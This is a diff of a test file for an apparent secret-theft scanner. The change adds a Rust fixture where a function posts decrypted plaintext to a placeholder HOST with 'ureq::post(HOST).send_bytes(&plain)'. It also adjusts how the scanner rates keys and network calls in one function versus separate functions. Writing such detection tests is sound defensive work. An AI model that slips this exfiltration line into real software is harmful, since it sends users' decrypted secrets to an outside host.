@@ -48,10 +48,12 @@ describe('a theft from native source', () => {
     expect(decisions('a.go', go)).toEqual(['hold']);
   });
 
-  test('keys and network in different functions of one file are for review, in an example a note', () => {
-    const text = `${CLEAN}\nfn version() { ureq::get("https://example.invalid/v").call(); }`;
-    expect(decisions('src/a.rs', text)).toEqual(['review']);
-    expect(decisions('examples/a.rs', text)).toEqual(['note']);
+  test('keys and network in one function are for review, in different ones or in an example a note', () => {
+    const one = CLEAN.replace('Ok(plain)', 'ureq::post(HOST).send_bytes(&plain); Ok(plain)');
+    expect(decisions('src/a.rs', one)).toEqual(['review']);
+    expect(decisions('examples/a.rs', one)).toEqual(['note']);
+    const two = `${CLEAN}\nfn version() { ureq::get("https://example.invalid/v").call(); }`;
+    expect(decisions('src/a.rs', two)).toEqual(['note']);
   });
 
   test('the finding is the same after the host, the file and the functions are renamed', () => {
